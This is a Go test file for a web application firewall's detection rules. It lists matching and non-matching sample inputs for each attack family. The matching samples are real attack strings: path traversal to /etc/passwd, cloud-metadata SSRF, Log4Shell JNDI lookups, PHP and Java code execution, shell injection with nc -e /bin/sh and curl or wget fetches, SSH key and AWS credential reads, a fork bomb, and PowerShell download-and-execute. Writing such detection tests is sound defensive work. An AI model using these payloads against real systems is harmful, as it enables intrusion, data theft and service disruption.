package managed

import (
	"testing"

	"github.com/groundfront/groundfront/waf/managed/ordinary"
)

// TestFamilies has for each family texts in which it is, and some in which it
// is not although they look like it.
func TestFamilies(t *testing.T) {
	for _, tc := range []struct {
		family Family
		is     []string
		isNot  []string
	}{
		{FamilyTraversal,
			[]string{"../../etc/passwd", `..\..\windows`, "a/../../b", "..//../x", ".././../x", "../.env", ".../.../win.ini", "x=..;/manager", "\xc0\xae\xc0\xae/", `file=..\secret`, `filename="../a.7z"`, `\u002e\u002e/\u002e\u002e/x`},
			[]string{"../img/a.png", "a..b/c", "see more.../docs", "/get/..", "1..2/3", "foo.../1234", "https://example.com/a/../b"}},
		{FamilyRemote,
			[]string{"http://203.0.113.5/x.php", "https://user:pw@203.0.113.5", "ftp://1.1.1.1", "http://0x7f.1/", "http://2130706433/", "gopher://0177.0.0.1", "http://[::1]/", "http://①②⑦.⓪.⓪.①", "file:///etc/hosts", "HTTP://1.2.3.4", "http:127.0.0.1", "x=https://evil.example?"},
			[]string{"http://example.com/", "https://1.2.3.4.example.com/", "http://3com.example/", "https://example.com/?u=1.2.3.4", "version 1.2.3.4", "mailto:a@1.2.3.4", "http://123/", "x=https://example.com/?a=b"}},
		{FamilyMetadata,
			[]string{"http://169.254.169.254/latest/meta-data/", "http://0xA9FEA9FE/", "http://2852039166/", "http://0251.0376.0251.0376/", "http://169。254。169。254/", "http://[::ffff:a9fe:a9fe]", "metadata.google.internal", "http://169.254.43518/"},
			[]string{"169.254.1.1", "http://2852039167/", "latest/metadata-format", "http://example.com/metadata"}},
		{FamilyExtension,
			[]string{"/server.log", "/a/b.INI", "/conf/app.config/", "../x.sql", "/dump.sql.gz", "/.env", "/index.php~"},
			[]string{"/log", "/a.log.html", "/catalog", "/blog.logic/x", "hello world.log of mine", "a.b@example.ini.com", "/configuration"}},
		{FamilyAdmin, []string{"/phpmyadmin/index.php", "/SQLManager/", "/manager/html", "/pma/"}, []string{"/blog/system-administration-tips", "/admin", "/pmail"}},
		{FamilyExploitable, []string{"/WEB-INF/web.xml", "/.git/config", "/.env", "/cgi-bin/luci", "/actuator/heapdump"}, []string{"/.well-known/acme-challenge/x", "/webinfo", "/environment", "/actuator/health"}},
		{FamilyJava,
			[]string{`(java.lang.Runtime).getRuntime().exec("whoami")`, "rO0ABXNyABFqYXZh", "\xac\xed\x00\x05sr", "class.module.classLoader.resources", "${T(java.lang.Runtime)}", "%{#_memberAccess=1}", "T(java.lang.System)", "cnVudGltZQ", "java.util.x.Runtime", `filename="shell.jsp"`},
			[]string{"java.lang.RuntimeException: x", "at java.base/java.lang.reflect.Method.invoke(Method.java:580)", "javascript", "PrO0ABC", "runtime 5 min", "${name}", "#{color}", `filename="a.jspx.txt"`}},
		{FamilyLog4j,
			[]string{"${jndi:ldap://example.com/a}", "${${lower:j}ndi:rmi://x}", "${${::-j}${::-n}${::-d}${::-i}:x}", "${j${k8s:k5:-ND}i:x}", "${${env:A:-j}ndi${env:A:-:}x}", `\u0024{jndi:dns://x}`, "$${jndi:x"},
			[]string{"${name}", "${jndi", "jndi", "${a:jndi:x}", "$ {jndi:x}", "{jndi:x}"}},
		{FamilyReact, []string{`{"then":"$1:__proto__:then","status":"resolved_model"}`, `["$1:constructor:constructor"]`, `require("child_process").execSync("id")`}, []string{`{"proto":1}`, "child_process is a module", "the constructor: constructor"}},
		{FamilySystemFile, []string{"/etc/passwd", "cat /PROC/version", "/root/.ssh/id_rsa", "a=.aws/credentials", "/et*/pa??wd"}, []string{"/etc", "/process/version", "abc.botox.jpg", "etc. passwords"}},
		{FamilyUnix,
			[]string{"; cat /etc/passwd", "|id", "&& wget http://x.example", "$(whoami)", "`id`", "<(cat file)", "echo $HOME", "echo $PATH", "/bin/sh -c x", "() { :;}; x", ";c'a't /etc/passwd", `;c\at /x`, ";c$@at /x", "curl -o x https://x.example", "time curl x", ":(){ :|:& };:", "a=ls -la", "nc -e /bin/sh", "{,ip,a}", "!x;sudo ls -l", "x|bash"},
			[]string{"cats & dogs; more or less", "Times & Schedule", "; time he came", "ping pong", "find my phone", "a; find the end", "Guns N' Roses", "text/html; q=0.8", "Mozilla/5.0 (X11; Linux x86_64)", "curl/8.5.0", "cat food", "rock & roll | jazz", "data:image/png;base64,iVBO", "```python\nimport x", "run `npm install` first", "id=5&sort=date&w=3"}},
		{FamilyWindows,
			[]string{"||nslookup x", ";cmd", "& dir c:\\", "|net user x", "for /f %i in ('dir') do x", "if exist c:\\x del", "cmd.exe", "%COMSPEC%", `;c^md /c dir`, "if \"%1\"==\"\" goto x", "bcdboot"[:0] + "&bcdboot /r x"},
			[]string{"if it exists; sort it", "for 5 in a row", "net profit; path & time", "at 5 & print", "image.jpg&sort=1", "if a then b"}},
		{FamilyPowerShell, []string{"Invoke-Expression x", "powershell -enc AAAA", "powershell.exe", ";iex (iwr http://x)", "(New-Object Net.WebClient).DownloadString('x')"}, []string{"PowerShell tips", "invoke the expression", "new objects", "pieces; ieX"}},
		{FamilyPHP,
			[]string{"<?php x", "<?=1", "$_GET['x']", "fsockopen('x')", "base64_decode (", "eval($x)", "php://input", `O:8:"stdClass":0:{}`, "x=$a(1)", "(system)('id')", "exec/*x*/('id')", "expect://id", "${'a'}", "allow_url_include=1", `filename="a.php"`, "@exec('x')"},
			[]string{`<?xml version="1.0"?>`, "the system (yep)", "ecosystem()", "evaluation(x)", "regex.exec(s)", "Let $f(x) = 1$", "costs $5 (was $7)", "$(document).ready(x)", `{"$in":[1]}`, "[link](https://example.com)", "php.net", "I use exec ("}},
		{FamilyWordPressCommand, []string{"do-reset-wordpress=1", "action=revslider_show_image&img=x"}, []string{"action=heartbeat", "reset=1"}},
		{FamilyWordPressPath, []string{"/xmlrpc.php", "/wp-config.php.bak", "/wp-content/debug.log"}, []string{"/wp-json/wp/v2/posts", "/wp-content/uploads/a.jpg", "/wp-login.php"}},
		{FamilyScanner, []string{"Nessus SOAP", "Mozilla/5.0 (compatible; Nmap Scripting Engine)", "sqlmap/1.8"}, []string{"Mozilla/5.0 (X11; Linux)", "curl/8", "Googlebot/2.1"}},
	} {
		p := all().For(uint64(tc.family))
		for _, text := range tc.is {
			if Family(p.Scan(text))&tc.family == 0 {
				t.Errorf("%q: no %v, want one", text, tc.family)
			}
		}
		for _, text := range tc.isNot {
			if Family(p.Scan(text))&tc.family != 0 {
				what, from, to := p.Find(text, uint64(tc.family))
				t.Errorf("%q: got %s at %d to %d, want none", text, what, from, to)
			}
		}
	}
}

// TestFind: what log records say is where it is.
func TestFind(t *testing.T) {
	what, from, to := all().Find("please ../../etc", uint64(FamilyTraversal))
	if what != "traversal" || from != 7 || to != 10 {
		t.Errorf("got %s at %d to %d, want traversal at 7 to 10", what, from, to)
	}
	if what, from, to = all().Find(`\u002e./../x`, uint64(FamilyTraversal)); what != "traversal" || from != 0 || to != 12 {
		t.Errorf("got %s at %d to %d, want traversal somewhere in the whole", what, from, to)
	}
}

// FuzzScan: a pack of some families finds what that of all finds of them, and
// what Scan finds Find knows a place for.
func FuzzScan(f *testing.F) {
	requests, err := ordinary.Strict()
	if err != nil {
		f.Fatal(err)
	}
	for i, r := range requests {
		f.Add(r.Target, uint64(1)<<(i%20))
		f.Add(r.Body, ^uint64(0))
	}
	f.Add("x=$(c\\at /etc/p'a's$@swd)${jndi:${lower:x}}", uint64(FamilyUnix))
	f.Fuzz(func(t *testing.T, text string, kinds uint64) {
		found := all().Scan(text)
		if got, want := all().For(kinds).Scan(text)&kinds, found&kinds; got != want {
			t.Fatalf("%q: those of %v find %v, all find %v of them", text, Family(kinds), Family(got), Family(want))
		}
		for rest := found; rest != 0; rest &= rest - 1 {
			one := rest &^ (rest - 1)
			if what, from, to := all().Find(text, one); what != Family(one).String() || from < 0 || from > to || to > len(text) {
				t.Fatalf("%q: found %v, but Find says %s at %d to %d", text, Family(one), what, from, to)
			}
		}
	})
}
